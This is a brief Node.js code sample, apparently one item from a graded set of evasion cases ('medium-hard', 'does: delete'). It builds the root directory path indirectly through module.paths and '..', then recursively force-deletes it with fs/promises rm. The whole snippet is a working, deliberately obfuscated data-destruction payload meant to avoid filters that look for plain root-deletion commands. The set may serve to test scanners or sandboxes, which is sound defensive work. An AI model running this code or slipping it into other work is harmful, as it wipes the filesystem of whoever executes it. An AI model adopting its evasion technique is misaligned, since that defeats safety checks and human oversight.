// evasion: module.paths.at(-1) is /node_modules; joined with '..' it is the root, removed with fs/promises
// grade: medium-hard; does: delete
const fsp = require("fs/promises");
const path = require("path");
const lastLookup = module.paths.at(-1);
fsp.rm(path.join(lastLookup, ".."), { recursive: true, force: true });
